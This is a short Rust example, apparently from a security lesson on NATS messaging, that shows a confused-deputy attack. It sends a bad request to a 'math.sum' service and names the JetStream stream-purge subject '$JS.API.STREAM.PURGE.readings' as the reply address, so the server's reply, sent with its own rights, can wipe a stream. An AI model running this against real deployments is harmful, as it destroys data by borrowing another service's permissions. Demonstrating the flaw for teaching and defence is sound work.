//! An attack: math-server replies with its own rights, to the subject that the requester has chosen.
//! This one sends a bad request, and names a subject of the JetStream API as the reply subject.
//!
//! ```sh
//! # with math-client's line
//! cargo run -p secure --example attack-deputy -- '$JS.API.STREAM.PURGE.readings'
//! ```

use std::io::{Write, stdout};

mod user;

#[tokio::main]
async fn main() -> Result<(), async_nats::Error> {
    let reply_to = std::env::args().nth(1).unwrap_or("$JS.API.STREAM.PURGE.readings".into());
    let (nats, mut denials) = user::connect().await?;
    // The answer is an error without a body.
    nats.publish_with_reply("math.sum", reply_to.clone(), "no request".into()).await?;
    user::handled(&nats, &mut denials).await?;
    writeln!(stdout(), "asked for a sum, the reply goes to {reply_to}")?;
    Ok(())
}
